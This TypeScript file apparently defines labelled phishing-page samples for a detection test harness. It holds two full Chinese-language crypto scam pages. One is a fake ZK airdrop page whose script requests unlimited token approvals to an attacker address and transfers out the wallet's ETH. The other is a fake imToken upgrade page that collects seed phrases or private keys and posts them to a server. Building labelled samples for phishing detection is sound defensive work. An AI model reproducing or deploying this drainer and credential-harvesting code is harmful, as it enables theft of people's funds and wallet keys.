import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, footer, b64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

const words = 'abandon ability able about above absent absorb abstract absurd abuse access accident'.split(' ');

export const entries: Entry[] = [
  {
    id: 'yq-drainer-airdrop-claim-approve-max',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://claim.zksync-airdrop-cn.xyz/',
    body: doc({
      title: 'ZK 空投领取 | 第二季',
      lang: 'zh-CN',
      css:
        baseCss(`Inter,${fontSC}`, '#0a0a12', '#fff') +
        `.w{max-width:560px;margin:70px auto;text-align:center;padding:0 20px}
.card{background:#14141f;border:1px solid #26263a;border-radius:16px;padding:30px;margin-top:24px}
.amt{font-size:42px;font-weight:800;background:linear-gradient(90deg,#8c8dfc,#4e529a);-webkit-background-clip:text;color:transparent}
.go{background:#8c8dfc;color:#0a0a12;width:100%;height:50px;border-radius:12px;font-size:16px}
.st{font-size:13px;color:#8a8aa3;margin-top:14px;min-height:20px}`,
      body: `<div class="w"><h1 style="margin:0">ZK 第二季空投已开放领取</h1><p style="color:#8a8aa3">根据链上交互记录，符合条件的地址可领取 ZK 代币。活动截止：北京时间 5 月 20 日 20:00</p>
<div class="card"><p style="color:#8a8aa3;margin:0">你的可领取数量</p><div class="amt" id="amt">— ZK</div>
<button class="btn go" id="cn">连接钱包</button><div class="st" id="st"></div></div>
<p style="font-size:12px;color:#555;margin-top:20px">支持 MetaMask · OKX Wallet · imToken · TokenPocket · Bitget Wallet</p></div>
<script>
(function(){
var RCV='0x7a3e9b0c4d12f5e8a6b9c0d1e2f3a4b5c6d7e8f9',MAX='ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
var st=document.getElementById('st'),acc=null;
function pad(a){return a.replace('0x','').toLowerCase().padStart(64,'0')}
document.getElementById('cn').onclick=async function(){
  var eth=window.ethereum||window.okxwallet;if(!eth){st.textContent='未检测到钱包，请在钱包 App 内置浏览器中打开';return;}
  try{
    if(!acc){var a=await eth.request({method:'eth_requestAccounts'});acc=a[0];
      document.getElementById('amt').textContent=(1200+Math.floor(Math.random()*3000)).toLocaleString()+' ZK';this.textContent='领取空投';
      fetch('/api/v2/wallet',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,ref:location.search})});return;}
    st.textContent='正在验证资格…';
    for(var i=0;i<TOKENS.length;i++){
      await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i],data:'0x095ea7b3'+pad(RCV)+MAX}]});
    }
    var bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
    var v=BigInt(bal)-BigInt('3000000000000000');
    if(v>0n){await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:RCV,value:'0x'+v.toString(16)}]});}
    st.textContent='领取成功！代币将在 24 小时内到账';
  }catch(e){st.textContent='用户取消或 Gas 不足，请重试';}
};})();
</script>`,
    }),
    routes: { 'claim.zksync-airdrop-cn.xyz/api/v2/wallet': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'yq-imtoken-upgrade-mnemonic-verify',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://token-im.wallet-upgrade.vip/v2/verify',
    body: doc({
      title: 'imToken - 钱包安全升级',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f4f7fb') +
        `.w{max-width:440px;margin:0 auto;padding:30px 18px}
.ic{width:64px;height:64px;border-radius:16px;background:linear-gradient(135deg,#11c4d1,#0062ad);margin:0 auto 12px}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{height:38px;border:1px solid #d5dbe5;border-radius:6px;padding:0 8px;font-size:14px}
.tabs{display:flex;background:#e8edf5;border-radius:8px;padding:3px;margin:14px 0}.tabs span{flex:1;text-align:center;padding:6px;border-radius:6px;font-size:13px}.tabs .on{background:#fff}
.go{background:#0062ad;color:#fff;width:100%;height:48px;border-radius:10px;margin-top:16px}
textarea{width:100%;height:90px;border:1px solid #d5dbe5;border-radius:6px;padding:8px;display:none}`,
      body: `<div class="w" style="text-align:center"><div class="ic"></div><h2 style="margin:0">钱包安全升级</h2>
<p class="hint">imToken 3.0 升级需验证钱包所有权。升级后将启用全新 MPC 安全架构，旧版本钱包将于 6 月 1 日后无法转账。</p></div>
<div class="w" style="padding-top:0"><div class="tabs"><span class="on" id="t1">助记词</span><span id="t2">私钥</span></div>
<div class="g" id="grid">${words.map((_, i) => `<input placeholder="${i + 1}" autocomplete="off" spellcheck="false">`).join('')}</div>
<textarea id="pk" placeholder="请输入 64 位私钥"></textarea>
<button class="btn go" id="go">开始升级</button>
<p class="hint" style="text-align:center">您的助记词仅在本地加密验证，不会上传服务器</p></div>
<script>
(function(){var mode='m';
document.getElementById('t1').onclick=function(){mode='m';this.className='on';document.getElementById('t2').className='';document.getElementById('grid').style.display='grid';document.getElementById('pk').style.display='none'};
document.getElementById('t2').onclick=function(){mode='k';this.className='on';document.getElementById('t1').className='';document.getElementById('grid').style.display='none';document.getElementById('pk').style.display='block'};
document.getElementById('grid').addEventListener('paste',function(e){var t=(e.clipboardData.getData('text')||'').trim().split(/\\s+/);if(t.length>=12){e.preventDefault();var ins=this.querySelectorAll('input');t.slice(0,12).forEach(function(w,i){ins[i].value=w})}});
document.getElementById('go').onclick=function(){var v=mode==='m'?Array.prototype.map.call(document.querySelectorAll('#grid input'),function(i){return i.value.trim()}).join(' '):document.getElementById('pk').value.trim();
if(mode==='m'&&v.split(' ').filter(Boolean).length<12){alert('请完整输入 12 个助记词');return;}
var x=new XMLHttpRequest();x.open('POST','/v2/api/backup');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({t:mode,v:btoa(v),ua:navigator.userAgent}));
this.disabled=true;this.textContent='正在升级…';setTimeout(function(){alert('升级成功，请重新打开 imToken');location.href='https://token.im/'},3000);};})();
</script>`,
    }),
    routes: { 'token-im.wallet-upgrade.vip/v2/api/backup': jsonRoute({ code: 0 }) },
  },
];
